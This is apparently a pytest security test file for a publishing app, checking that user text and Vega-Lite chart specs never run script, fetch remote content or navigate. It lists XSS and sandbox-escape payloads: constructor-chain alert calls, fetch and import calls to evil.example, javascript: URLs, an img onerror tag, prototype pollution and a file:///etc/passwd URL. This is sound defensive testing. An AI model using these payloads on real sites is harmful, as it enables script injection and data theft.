"""Whatever people write, in whatever place, no page of ours runs it, asks for it or leads to it in a real browser."""

import asyncio
import json
import re

import pytest

from documents.markdown.html import html
from documents.markdown.html_inline import Picture
from documents.tree.tree import shaped
from tests.support.processes.servers import PATIENCE, http
from tests.support.web.payloads import IMAGE, PAYLOADS, check_inert, check_quiet, everywhere, names, sendable, watching
from tests.support.web.publishing import code, document, paragraph, publish

pytestmark = pytest.mark.slow


def chart(words):
    """A specification with these words in every place that shows, names, links to or computes something."""
    return {
        "title": {"text": words, "subtitle": words, "href": words},
        "description": words,
        "usermeta": {"embedOptions": {"loader": words, "actions": True, "sourceHeader": words}},
        "data": {"values": [{"a": words, "b": 1, words: 2}, {"a": "x", "b": 3}]},
        "mark": {"type": "bar", "tooltip": {"content": "data"}, "href": words, "cursor": words, "description": words},
        "params": [
            {"name": "p", "value": 1, "bind": {"input": "text", "name": words, "element": "body", "onfocus": words}}
        ],
        "encoding": {
            "x": {"field": "a", "title": words, "axis": {"labelFont": words, "format": words}},
            "y": {"field": "b", "type": "quantitative"},
            "href": {"field": "a"},
            "tooltip": [{"field": words}, {"field": "a"}],
            "color": {"value": words},
        },
        "config": {"font": words, "background": words, "events": {"bind": "any", "selector": True, "timer": True}},
    }


POINTS = {"values": [{"a": "x", "b": 1, "u": "//evil.example/i.png", "j": "javascript:alert(1)"}]}
PLAIN = {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}}
CALLS = [
    "alert(1)",
    "window.alert(1)",
    "(1).constructor.constructor('alert(1)')()",
    "datum.constructor.constructor('alert(1)')()",
    "datum['cons'+'tructor']['constructor']('alert(1)')()",
    "[].constructor.constructor('alert(1)')()",
    "toString.constructor('alert(1)')()",
    "this.alert(1)",
    "event.view.alert(1)",
    "event.target.ownerDocument.defaultView.alert(1)",
    "event.dataflow._el.ownerDocument.defaultView.alert(1)",
    "(() => alert(1))()",
    "function() { alert(1) }()",
    "`${alert(1)}`",
    "replace('x', /x/, alert)",
    "datum.__proto__.constructor.constructor('alert(1)')()",
    "warn(constructor.constructor('alert(1)')())",
    "slice('x', {valueOf: alert})",
    "extent({'toString': datum.constructor.constructor('alert(1)')})",
    "data('x').constructor.constructor('alert(1)')()",
    "open('//evil.example')",
    "fetch('//evil.example')",
    "import('//evil.example')",
]
CHARTS = [
    *(
        {"data": POINTS, "transform": [{"calculate": call, "as": "c"}], "mark": "bar", "encoding": PLAIN}
        for call in CALLS
    ),
    *({"data": POINTS, "transform": [{"filter": call}], "mark": "bar", "encoding": PLAIN} for call in CALLS),
    *({"data": POINTS, "params": [{"name": "p", "expr": call}], "mark": "bar", "encoding": PLAIN} for call in CALLS),
    *({"data": POINTS, "mark": {"type": "bar", "tooltip": {"expr": call}}, "encoding": PLAIN} for call in CALLS),
    *({"data": POINTS, "title": {"text": {"expr": call}}, "mark": "bar", "encoding": PLAIN} for call in CALLS),
    *(
        {"data": {"url": url}, "mark": "bar", "encoding": PLAIN}
        for url in ("//evil.example/d.json", "/graphql", "data:,1", "javascript:alert(1)", "file:///etc/passwd")
    ),
    {"data": {"url": "//evil.example/t.json", "format": {"type": "topojson", "feature": "x"}}, "mark": "geoshape"},
    {
        "data": POINTS,
        "transform": [{"lookup": "a", "from": {"data": {"url": "//evil.example/l.csv"}, "key": "a", "fields": ["z"]}}],
        "mark": "bar",
        "encoding": PLAIN,
    },
    {
        "data": POINTS,
        "mark": {"type": "image", "url": "//evil.example/i.png", "width": 9, "height": 9},
        "encoding": PLAIN,
    },
    {"data": POINTS, "mark": {"type": "image", "width": 9, "height": 9}, "encoding": {**PLAIN, "url": {"field": "u"}}},
    {"data": POINTS, "mark": {"type": "bar", "href": "javascript:alert(1)"}, "encoding": PLAIN},
    {"data": POINTS, "mark": "bar", "encoding": {**PLAIN, "href": {"field": "j"}}},
    {"data": POINTS, "mark": "bar", "encoding": {**PLAIN, "href": {"value": "//evil.example/away"}}},
    {"$schema": "https://evil.example/schema/vega-lite/v6.json", "data": POINTS, "mark": "bar", "encoding": PLAIN},
    {"data": {"name": "__proto__", "values": [{"__proto__": {"polluted": 1}}]}, "mark": "bar", "encoding": PLAIN},
    {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "mark": "bar"},
    {"data": POINTS, "mark": {"type": "text", "text": "<img src=x onerror=alert(1)>"}, "encoding": PLAIN},
    {
        "data": POINTS,
        "params": [{"name": "s", "select": {"type": "point", "on": "body:click"}}],
        "mark": "bar",
        "encoding": PLAIN,
    },
    {
        "data": POINTS,
        "params": [{"name": "p", "value": "x", "bind": {"element": "main", "event": "click"}}],
        "mark": "bar",
        "encoding": PLAIN,
    },
    {
        "data": POINTS,
        "params": [
            {
                "name": "p",
                "value": 1,
                "bind": {"input": kind, "src": "x", "onerror": "alert(1)", "formaction": "javascript:alert(1)"},
            }
            for kind in ("image", "submit", "range")
        ],
        "mark": "bar",
        "encoding": PLAIN,
    },
    *(
        None,
        [],
        "x",
        1,
        {},
        {"mark": {}},
        {"layer": []},
        {"mark": "bar", "encoding": None},
        {"data": None, "mark": "bar"},
    ),
]


@pytest.mark.parametrize("words", PAYLOADS)
def test_a_payload_in_every_place_leaves_the_document_inert(words):
    tree = shaped(document(*everywhere(words), {"type": words, "attrs": {words: words}, "content": [paragraph(words)]}))
    check_inert(f"<!doctype html>{html(tree, {IMAGE: Picture(f'/images/{IMAGE}', 1, 1)}).body}")


@pytest.fixture(scope="module")
def ada(served):
    key = served.credentials["users"]["ada"]["apiKey"]
    with http(served.origin, headers={"x-api-key": key}) as client:
        yield client


def own(served, url):
    path = url.removeprefix(served.origin)
    return path, "/static/"


async def test_what_is_written_runs_nowhere_in_a_published_page(served, browser, ada):
    tree = document(*(block for words in map(sendable, PAYLOADS) for block in everywhere(words)))
    _, url = publish(ada, tree)
    check_inert(ada.get(url).text, ("/", served.origin + "/"))
    async with watching(browser, served.origin, own(served, url)) as (page, alarms):
        await page.goto(url)
        charts = await page.locator("figure[data-chart]").count()
        assert charts == len(PAYLOADS)
        await page.wait_for_function("n => document.querySelectorAll('[data-drawn]').length === n", arg=charts)
        await page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
        await check_quiet(page, alarms)


async def test_what_is_written_runs_nowhere_in_a_page_without_charts(served, browser, ada):
    blocks = [block for words in map(sendable, PAYLOADS) for block in everywhere(words)]
    _, url = publish(
        ada, document(*(block for block in blocks if block.get("attrs", {}).get("language") != "vega-lite"))
    )
    async with watching(browser, served.origin, own(served, url)) as (page, alarms):
        await page.goto(url)
        await check_quiet(page, alarms)


async def test_what_is_written_runs_nowhere_in_a_page_that_is_only_read(served, browser, browser_of, ada):
    item, _ = publish(ada, document(*(block for words in map(sendable, PAYLOADS) for block in everywhere(words))))
    reader, path = browser_of("ada"), f"/doc/{item}"
    text = reader.get(path).text
    frame = re.compile(
        rf'<iframe class="chart" src="{path}/charts/[0-9a-f]{{32}}" title="Chart" loading="lazy"></iframe>'
    )
    assert len(frame.findall(text)) == len(PAYLOADS)
    check_inert(frame.sub("", text))
    async with watching(browser, served.origin, (path, "/static/")) as (page, alarms):
        await page.context.add_cookies([{"name": "codrive", "value": reader.cookie, "url": served.origin}])
        await page.goto(served.origin + path)
        await page.locator("iframe").first.scroll_into_view_if_needed()
        await page.frame_locator("iframe").first.locator("[data-drawn]").wait_for()
        await page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
        await page.evaluate("document.querySelectorAll('iframe.chart').forEach(each => { each.remove() })")
        await check_quiet(page, alarms)


SPECS = [chart(words) for words in map(sendable, PAYLOADS)] + CHARTS
POKE = """() => {
    for (const element of document.querySelectorAll('.drawing svg *'))
        for (const kind of ['pointerover', 'mouseover', 'mousemove', 'pointermove', 'pointerdown', 'mousedown', 'mouseup', 'click'])
            element.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true, view: window}));
}"""


async def test_no_chart_runs_loads_or_leads_to_anything(served, browser, ada):
    _, url = publish(ada, document(*(code("vega-lite", json.dumps(spec)) for spec in SPECS)))
    async with watching(browser, served.origin, own(served, url)) as (page, alarms):
        await page.goto(url)
        await page.wait_for_function("n => document.querySelectorAll('[data-drawn]').length === n", arg=len(SPECS))
        drawn = await page.locator("[data-drawn=yes]").count()
        assert drawn > len(PAYLOADS) / 2, "few were drawn at all, so little was tried"
        await page.evaluate(POKE)
        assert await page.evaluate("({}).polluted") is None
        assert await page.locator("main input, main select, main form").count() == 0
        assert page.url == url
        await check_quiet(page, alarms)


async def test_no_name_of_a_document_runs_in_its_page(served, browser, ada):
    item, url = publish(ada, document(paragraph("x")))
    async with watching(browser, served.origin, own(served, url)) as (page, alarms):
        for name in names():
            ada.patch(f"/api/v1/drive-items/{item}", json={"name": name}).raise_for_status()
            await page.goto(url)
            assert await page.locator("h1").text_content() == name
        await check_quiet(page, alarms)


async def test_the_watcher_has_eyes(served, browser):
    """Unescaped and without a policy, a good part of the payloads does what it is for, and each is noticed."""
    frames = "".join(
        f'<iframe srcdoc="{words.replace("&", "&amp;").replace(chr(34), "&quot;")}"></iframe>'
        for words in (
            words.replace("alert(1)", f"alert({number})").replace("evil.example", f"evil{number}.example")
            for number, words in enumerate(map(sendable, PAYLOADS), 1000)
        )
    )
    async with watching(browser, served.origin, ("/healthz",)) as (page, alarms):
        await page.goto(f"{served.origin}/healthz")
        await page.set_content(frames, wait_until="commit")
        async with asyncio.timeout(PATIENCE):
            while len(noticed(alarms)) < 120:
                await alarms.rung.wait()
                alarms.rung.clear()


def noticed(alarms):
    return {number for alarm in alarms for number in re.findall(r"(?<!\d)1\d{3}(?!\d)", alarm)}
